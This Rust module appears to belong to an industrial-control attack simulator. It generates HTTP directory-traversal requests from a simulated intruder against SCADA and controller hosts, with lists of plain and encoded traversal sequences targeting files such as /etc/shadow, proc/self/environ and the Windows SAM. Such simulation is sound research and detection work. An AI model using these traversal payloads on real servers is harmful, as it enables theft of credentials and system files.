//! HTTP traversal: paths that climb out of the directory of the web server.

use super::{Attack, Needs, technique};
use crate::net::web::Get;
use crate::plant::Role;
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "http-traversal",
    about: "asks web servers for files outside their pages",
    technique: technique("T0819"),
    acceptable: &["T0866", "T0811"],
    grade: "B",
    kind: "fast",
    proto: "http",
    variants: &["plain", "encoded"],
    needs: Needs::Sockets,
    seconds: [900, 60, 6],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    let scada = stage.known(Role::Scada).ip();
    let device = stage.controller();
    for _ in 0..stage.by(10, 24, 60) {
        let to = if stage.rng.chance(0.5) { scada } else { device };
        let climb = if stage.is("encoded") { stage.rng.pick(ENCODED) } else { stage.rng.pick(PLAIN) };
        let depth = stage.rng.between(3, 9) as usize;
        let file = stage.rng.pick(if to == scada { WINDOWS } else { UNIX });
        let head = stage.rng.pick(HEADS);
        let path = format!("{head}{}{file}", climb.repeat(depth));
        drop(intruder.get(to, Get::path(path).with("User-Agent", "curl/8.5.0")).await);
        stage.pause(stage.by(85.0, 2.4, 0.08)).await;
    }
    Ok(())
}

const HEADS: &[&str] = &["/", "/files/", "/report?file=", "/download?name=", "/static/"];
const PLAIN: &[&str] = &["../", "..\\", "....//"];
const ENCODED: &[&str] = &["%2e%2e%2f", "..%2f", "%2e%2e/", "..%5c", "%252e%252e%252f", "..%c0%af"];
const UNIX: &[&str] =
    &["etc/passwd", "etc/shadow", "proc/self/environ", "var/log/auth.log", "config/users.db"];
const WINDOWS: &[&str] =
    &["windows/win.ini", "boot.ini", "ProgramData/scada/project.mdb", "windows/repair/sam"];
